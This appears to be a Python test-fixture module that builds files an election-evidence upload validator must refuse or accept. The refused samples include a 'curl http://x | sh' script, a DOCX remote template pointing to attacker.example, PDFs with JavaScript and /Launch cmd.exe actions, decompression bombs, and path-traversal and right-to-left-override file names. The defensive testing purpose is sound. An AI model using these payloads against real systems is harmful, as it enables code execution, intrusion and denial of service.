"""A corpus of hostile and of good evidence files, made by the tests themselves (nothing checked in).

`refused()` lists files every upload path must refuse, each with the words its refusal must contain;
`accepted()` lists real files of every accepted type. Contents are built once per test session.
"""

import functools
import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass, field

from inventory.choices import EvidenceKind
from tests.inventory.factories import jpeg_bytes, pdf_bytes

K = EvidenceKind
MB = 1024 * 1024


@dataclass(frozen=True)
class Sample:
    id: str
    name: str
    content: bytes
    kind: str = K.OTHER
    # Words the refusal message must contain (case-insensitive), besides the file name.
    reason: tuple[str, ...] = ()
    # Settings the sample needs (small limits, so the tests stay small).
    settings: dict = field(default_factory=dict)
    # What a refusal shows as the name (names with hidden characters are shown escaped).
    shown: str = ""
    # Extra expectations for accepted files.
    mime_type: str = ""
    captured_at: str = ""

    @property
    def shown_name(self) -> str:
        return self.shown or self.name

    def __repr__(self):
        return f"Sample({self.id})"


# --- builders -------------------------------------------------------------------------------------


def pdf_from_objects(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF with these objects (numbered from 1) and a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def pdf_with(catalog_extra: bytes = b"", page_extra: bytes = b"", more: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF whose catalogue and page carry extra entries; `more` are objects 5, 6, ..."""
    stream = b"BT /F1 18 Tf 72 720 Td (Berita acara) Tj ET"
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> "
            + page_extra
            + b" >>",
            b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
            *more,
        ]
    )


def encrypted_pdf(user_password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes("Rahasia"))))
    writer.encrypt(user_password=user_password, owner_password="pemilik-rahasia")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_bomb(width: int, height: int, *, depth: int = 1, color_type: int = 0) -> bytes:
    """A PNG of `width` x `height` black pixels (1-bit grey unless told otherwise; color type 6 is
    RGBA), compressed to almost nothing: made in pieces, so even 30000 x 30000 needs no memory."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    bands = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[color_type]
    row = b"\x00" + b"\x00" * ((width * bands * depth + 7) // 8)
    compressor = zlib.compressobj(9)
    rows_per_piece = max(1, MB // len(row))
    piece = row * rows_per_piece
    body = []
    for _ in range(height // rows_per_piece):
        body.append(compressor.compress(piece))
    body.append(compressor.compress(row * (height % rows_per_piece)))
    body.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, depth, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", b"".join(body)) + chunk(b"IEND", b"")


def image_bytes(fmt: str, size=(64, 48), exif=None, seed: int = 7) -> bytes:
    from PIL import Image

    import files.images  # noqa: F401 - HEIF writer

    rng = random.Random(seed)
    image = Image.new("RGB", size)
    image.putdata([(rng.randrange(256), rng.randrange(256), 90) for _ in range(size[0] * size[1])])
    out = io.BytesIO()
    kwargs = {}
    if exif is not None:
        kwargs["exif"] = exif.tobytes() if fmt == "HEIF" else exif
    image.save(out, fmt, **kwargs)
    return out.getvalue()


def photo_exif(taken="2024:02:14 13:05:00", offset=None, orientation=1):
    from PIL import Image

    exif = Image.Exif()
    exif[0x0112] = orientation
    ifd = {0x9003: taken}
    if offset:
        ifd[0x9011] = offset
    exif[0x8769] = ifd
    return exif


def noisy_jpeg(size=(400, 300)) -> bytes:
    """A JPEG big enough that cutting it leaves a readable header but half an image."""
    from PIL import Image

    image = Image.frombytes("RGB", size, random.Random(3).randbytes(size[0] * size[1] * 3))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90)
    return out.getvalue()


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4_bytes(brand: bytes = b"isom", compatible: bytes = b"isomiso2avc1mp41") -> bytes:
    """A minimal ISO base media file: ftyp, an (empty) moov, and some media data."""
    mvhd = box(b"mvhd", b"\x00" * 4 + b"\x00" * 8 + struct.pack(">II", 1000, 0) + b"\x00" * 80)
    return (
        box(b"ftyp", brand + b"\x00\x00\x02\x00" + compatible)
        + box(b"moov", mvhd)
        + box(b"mdat", random.Random(5).randbytes(4096))
    )


def zip_bytes(entries: list[tuple[str, bytes | str]], method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
    "</Relationships>"
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    "<w:p><w:r><w:t>Berita acara rapat pleno rekapitulasi PPK</w:t></w:r></w:p></w:body></w:document>"
)
REMOTE_TEMPLATE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" TargetMode="External" Target="http://attacker.example/t.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    "</Relationships>"
)
HYPERLINK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId5" TargetMode="External" Target="https://www.kpu.go.id/" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
    "</Relationships>"
)


def docx_bytes(*extra: tuple[str, bytes | str], first: tuple[str, ...] = ()) -> bytes:
    """A minimal DOCX in the entry order Word writes (which libmagic needs); `first` puts entries
    before [Content_Types].xml, as some other tools do."""
    entries = [
        ("[Content_Types].xml", CONTENT_TYPES),
        ("_rels/.rels", ROOT_RELS),
        ("word/document.xml", DOCUMENT),
        *extra,
    ]
    ordered = [e for e in entries if e[0] in first] + [e for e in entries if e[0] not in first]
    return zip_bytes(ordered)


def xlsx_bytes() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["TPS", "Suara sah", "Suara tidak sah"])
    sheet.append(["13.02.03.2002.001", 212, 4])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def xlsx_bomb(unpacked: int) -> bytes:
    """Looks like a workbook to libmagic; one sheet unpacks to `unpacked` bytes of zeros."""
    return zip_bytes(
        [
            ("[Content_Types].xml", CONTENT_TYPES.replace("word/document", "xl/workbook")),
            ("_rels/.rels", ROOT_RELS.replace("word/document", "xl/workbook")),
            ("xl/workbook.xml", "<workbook/>"),
            ("xl/worksheets/sheet1.xml", b"\x00" * unpacked),
        ]
    )


def lying_zip_sizes(data: bytes, entry: str, declared: int) -> bytes:
    """The same ZIP with `entry`'s uncompressed size rewritten to `declared` in both headers: the
    sizes an archive declares are not to be believed."""
    data = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo(entry)
    data[info.header_offset + 22 : info.header_offset + 26] = struct.pack("<I", declared)
    central = data.rfind(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack("<H", data[central + 28 : central + 30])[0]
        if data[central + 46 : central + 46 + name_len] == entry.encode():
            data[central + 24 : central + 28] = struct.pack("<I", declared)
            break
        central = data.rfind(b"PK\x01\x02", 0, central)
    return bytes(data)


def tar_bytes() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        content = pdf_bytes("inside a tar")
        info = tarfile.TarInfo("c_hasil.pdf")
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def elf_bytes() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 62, 1) + b"\x00" * 200


def pe_bytes() -> bytes:
    data = bytearray(b"MZ\x90\x00" + b"\x00" * 300)
    data[0x3C:0x40] = struct.pack("<I", 0x80)
    data[0x80:0x84] = b"PE\x00\x00"
    data[0x84:0x86] = struct.pack("<H", 0x14C)
    return bytes(data)


HTML = b"<!DOCTYPE html><html><body><h1>C.Hasil</h1><script>fetch('/api/me/')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)
JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('x'\\)) >>"


# --- the corpus -----------------------------------------------------------------------------------


@functools.cache
def refused() -> list[Sample]:
    from tests.inventory import hostile_hidden

    pdf = pdf_bytes("C.Hasil TPS 001")
    jpeg = jpeg_bytes(11)
    truncated = noisy_jpeg()
    small_limit = {"EVIDENCE_MAX_BYTES": 1000}
    small_unpacked = {"EVIDENCE_MAX_UNPACKED_BYTES": MB}
    bomb = xlsx_bomb(4 * MB)
    return [
        Sample("empty", "kosong.pdf", b"", reason=("empty",)),
        Sample("too-large", "c_hasil_besar.pdf", pdf + b"%" * 2000, reason=("too large",), settings=small_limit),
        # Mismatched types: the name says one thing, the bytes another.
        Sample("pdf-named-jpg", "photo.jpg", pdf, reason=("application/pdf", ".jpg")),
        Sample("jpeg-named-pdf", "c_hasil.pdf", jpeg, reason=("image/jpeg", ".pdf")),
        Sample("no-extension", "c_hasil", pdf, reason=("application/pdf", "nothing")),
        # Kind allow-lists.
        Sample("pdf-as-photo", "foto.pdf", pdf, kind=K.PHOTO, reason=("pdf", "photo")),
        Sample("video-as-photo", "foto.mp4", mp4_bytes(), kind=K.PHOTO, reason=("video", "photo")),
        Sample("jpeg-as-video", "rekaman.jpg", jpeg, kind=K.VIDEO, reason=("image", "video")),
        Sample("video-as-c-hasil", "c_hasil.mp4", mp4_bytes(), kind=K.C_HASIL, reason=("video", "c.hasil")),
        Sample("docx-as-c-hasil", "c_hasil.docx", docx_bytes(), kind=K.C_HASIL, reason=("office", "c.hasil")),
        Sample("video-as-minutes", "ba.mp4", mp4_bytes(), kind=K.BERITA_ACARA, reason=("video", "minutes")),
        Sample("gif", "foto.gif", image_bytes("GIF"), kind=K.PHOTO, reason=("image/gif", "not accepted")),
        Sample("text", "catatan.pdf", b"Catatan saksi TPS 001\n" * 20, reason=("text/plain", "not accepted")),
        # Decompression bombs: refused from the header, before a single pixel is decoded.
        Sample("png-bomb", "scan.png", png_bomb(30000, 30000), kind=K.PHOTO, reason=("pixels",)),
        Sample("png-bomb-warning", "scan2.png", png_bomb(15000, 10000), kind=K.PHOTO, reason=("pixels",)),
        # Damaged images.
        Sample("jpeg-truncated", "foto_terpotong.jpg", truncated[: len(truncated) * 6 // 10], reason=("damaged",)),
        Sample(
            "jpeg-garbage", "foto_rusak.jpg", b"\xff\xd8\xff\xe0" + random.Random(1).randbytes(4000), reason=("image",)
        ),
        # Archives.
        Sample("zip", "bukti.zip", zip_bytes([("c_hasil.pdf", pdf)]), reason=("archive", "zip")),
        Sample("zip-named-pdf", "c_hasil2.pdf", zip_bytes([("c_hasil.pdf", pdf)]), reason=("archive",)),
        Sample("gzip", "bukti.pdf.gz", gzip.compress(pdf), reason=("archive", "gzip")),
        Sample("tar", "bukti.tar", tar_bytes(), reason=("archive", "tar")),
        Sample("7z", "bukti.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 120, reason=("archive", "7z")),
        Sample("rar", "bukti.pdf", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 120, reason=("archive", "rar")),
        # Programs.
        Sample("elf", "foto.jpg", elf_bytes(), reason=("program",)),
        Sample("windows-pe", "c_hasil.pdf", pe_bytes(), reason=("windows program",)),
        Sample("windows-mz", "setup.exe", b"MZ\x90\x00\x03" + b"\x00" * 200, reason=("windows program",)),
        Sample("shell-script", "run.pdf", b"#!/bin/sh\ncurl http://x | sh\n", reason=("script",)),
        # Pages and drawings that carry scripts.
        Sample("html", "laporan.html", HTML, reason=("web page",)),
        Sample("html-named-pdf", "laporan.pdf", HTML, reason=("web page",)),
        Sample("svg", "peta.svg", SVG, kind=K.PHOTO, reason=("svg", "script")),
        Sample("svg-named-jpg", "peta.jpg", SVG, kind=K.PHOTO, reason=("svg", "script")),
        # PDFs with scripts, actions and attachments, wherever they hide.
        Sample(
            "pdf-js-open-action", "js_open.pdf", pdf_with(b"/OpenAction 5 0 R", more=(JS_ACTION,)), reason=("script",)
        ),
        Sample(
            "pdf-js-names",
            "js_names.pdf",
            pdf_with(b"/Names << /JavaScript 5 0 R >>", more=(b"<< /Names [(a) 6 0 R] >>", JS_ACTION)),
            reason=("script",),
        ),
        Sample(
            "pdf-js-escaped-name",
            "js_escaped.pdf",
            pdf_with(b"/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>"),
            reason=("script",),
        ),
        Sample(
            "pdf-launch",
            "launch.pdf",
            pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
            reason=("/launch", "program"),
        ),
        Sample(
            "pdf-page-aa",
            "page_aa.pdf",
            pdf_with(page_extra=b"/AA << /O 5 0 R >>", more=(JS_ACTION,)),
            reason=("script",),
        ),
        Sample(
            "pdf-link-js",
            "link.pdf",
            pdf_with(
                page_extra=b"/Annots [5 0 R]",
                more=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 6 0 R >>", JS_ACTION),
            ),
            reason=("script",),
        ),
        Sample(
            "pdf-outline-js",
            "outline.pdf",
            pdf_with(
                b"/Outlines 5 0 R",
                more=(
                    b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
                    b"<< /Title (x) /Parent 5 0 R /A 7 0 R >>",
                    JS_ACTION,
                ),
            ),
            reason=("script",),
        ),
        Sample(
            "pdf-xfa-form",
            "form.pdf",
            pdf_with(b"/AcroForm << /Fields [] /XFA 5 0 R >>", more=(b"<< /Length 0 >>\nstream\n\nendstream",)),
            reason=("script",),
        ),
        Sample(
            "pdf-attachment",
            "lampiran.pdf",
            pdf_with(
                b"/Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >>",
                more=(
                    b"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>",
                    b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
                ),
            ),
            reason=("attached",),
        ),
        Sample("pdf-encrypted", "rahasia.pdf", encrypted_pdf("sandi"), reason=("encrypted",)),
        Sample("pdf-owner-locked", "terkunci.pdf", encrypted_pdf(""), reason=("encrypted",)),
        Sample("pdf-damaged", "rusak.pdf", b"%PDF-1.4\n" + random.Random(2).randbytes(3000), reason=("damaged",)),
        # Office documents with macros, embedded programs, remote templates, or bombs.
        Sample(
            "docx-macro",
            "berita_acara.docx",
            docx_bytes(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 200)),
            kind=K.BERITA_ACARA,
            reason=("macros",),
        ),
        Sample(
            "docx-ole",
            "berita_acara2.docx",
            docx_bytes(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 200)),
            kind=K.BERITA_ACARA,
            reason=("macros or embedded programs",),
        ),
        Sample(
            "docx-remote-template",
            "berita_acara3.docx",
            docx_bytes(("word/_rels/settings.xml.rels", REMOTE_TEMPLATE_RELS)),
            kind=K.BERITA_ACARA,
            reason=("internet",),
        ),
        Sample("xlsx-bomb", "rekap.xlsx", bomb, kind=K.BERITA_ACARA, reason=("bomb",), settings=small_unpacked),
        Sample(
            "xlsx-bomb-lying-sizes",
            "rekap2.xlsx",
            lying_zip_sizes(bomb, "xl/worksheets/sheet1.xml", 100),
            kind=K.BERITA_ACARA,
            reason=("damaged",),
            settings=small_unpacked,
        ),
        # Videos that are not what their header says.
        Sample("mp4-cut-off", "rekaman.mp4", mp4_bytes()[:-100], kind=K.VIDEO, reason=("damaged",)),
        Sample("mp4-with-program", "rekaman2.mp4", mp4_bytes() + pe_bytes(), kind=K.VIDEO, reason=("damaged",)),
        # Path tricks and hidden characters in names (the bytes are a good PDF).
        Sample("path-up", "../../etc/passwd.pdf", pdf, reason=("folder",)),
        Sample("path-sub", "a/b.pdf", pdf, reason=("folder",)),
        Sample("path-backslash", "..\\x.pdf", pdf, reason=("folder",), shown="'..\\\\x.pdf'"),
        Sample("null-byte", "x.pdf\x00.jpg", pdf, reason=("null",), shown="'x.pdf\\x00.jpg'"),
        Sample("rtl-override", "c_hasil\u202egpj.pdf", pdf, reason=("hidden", "right-to-left"), shown="\\u202e"),
        Sample("dot-file", ".c_hasil.pdf", pdf, reason=("dot",)),
        Sample("dots-only", "..", pdf, reason=("folder",)),
        Sample("blank-name", "   ", pdf, reason=("no name",), shown="file"),
        # Windows reads "C:x.pdf" as a path on drive C; Django's parser keeps it whole.
        Sample("drive-relative", "C:c_hasil.pdf", pdf, reason=("folder",)),
        *hostile_hidden.refused(),
    ]


@functools.cache
def accepted() -> list[Sample]:
    from tests.inventory import hostile_hidden

    return [
        Sample(
            "pdf", "c_hasil_tps001.pdf", pdf_bytes("C.Hasil PPWP TPS 001"), kind=K.C_HASIL, mime_type="application/pdf"
        ),
        Sample(
            "pdf-with-link",
            "ba_link.pdf",
            pdf_with(b"/OpenAction [3 0 R /Fit]"),
            kind=K.C_HASIL,
            mime_type="application/pdf",
        ),
        Sample(
            "jpeg-exif",
            "IMG_20240214_130500.jpg",
            image_bytes("JPEG", exif=photo_exif("2024:02:14 13:05:00")),
            kind=K.PHOTO,
            mime_type="image/jpeg",
            captured_at="2024-02-14T06:05:00+00:00",  # phones write WIB without a zone
        ),
        Sample(
            "jpeg-exif-offset",
            "IMG_WITA.jpeg",
            image_bytes("JPEG", exif=photo_exif("2024:02:14 14:05:00", offset="+08:00"), seed=8),
            kind=K.C_HASIL,
            mime_type="image/jpeg",
            captured_at="2024-02-14T06:05:00+00:00",
        ),
        Sample("png", "scan.PNG", image_bytes("PNG"), kind=K.D_HASIL_KECAMATAN, mime_type="image/png"),
        Sample("webp", "foto.webp", image_bytes("WEBP"), kind=K.PHOTO, mime_type="image/webp"),
        Sample(
            "heic",
            "IMG_0001.HEIC",
            image_bytes("HEIF", exif=photo_exif("2024:11:27 09:30:00")),
            kind=K.PHOTO,
            mime_type="image/heic",
            captured_at="2024-11-27T02:30:00+00:00",
        ),
        Sample("mp4", "VID_20240214.mp4", mp4_bytes(), kind=K.VIDEO, mime_type="video/mp4"),
        Sample("mov", "IMG_0002.MOV", mp4_bytes(b"qt  ", b"qt  "), kind=K.VIDEO, mime_type="video/quicktime"),
        Sample("3gp", "rekaman.3gp", mp4_bytes(b"3gp4", b"3gp4isom"), kind=K.VIDEO, mime_type="video/3gpp"),
        # A camera brand libmagic 5.44 does not know (it says application/octet-stream).
        Sample("mp4-xavc", "C0001.MP4", mp4_bytes(b"XAVC", b"XAVCmp42iso2"), kind=K.VIDEO, mime_type="video/mp4"),
        Sample(
            "docx",
            "berita_acara.docx",
            docx_bytes(("word/_rels/document.xml.rels", HYPERLINK_RELS)),
            kind=K.BERITA_ACARA,
            mime_type="application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        # Entries in an order libmagic 5.44 does not recognise (it says application/zip).
        Sample(
            "docx-other-order",
            "berita_acara_lo.docx",
            docx_bytes(first=("_rels/.rels",)),
            kind=K.BERITA_ACARA,
            mime_type="application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        Sample(
            "xlsx",
            "rekap.xlsx",
            xlsx_bytes(),
            kind=K.BERITA_ACARA,
            mime_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        Sample("jpeg-as-minutes", "ba_foto.jpg", jpeg_bytes(12), kind=K.BERITA_ACARA, mime_type="image/jpeg"),
        Sample("pdf-as-other", "lain.pdf", pdf_bytes("lain-lain"), kind=K.OTHER, mime_type="application/pdf"),
        Sample("video-as-other", "lain.mp4", mp4_bytes(b"mp42", b"mp42isom"), kind=K.OTHER, mime_type="video/mp4"),
        *hostile_hidden.accepted(),
    ]
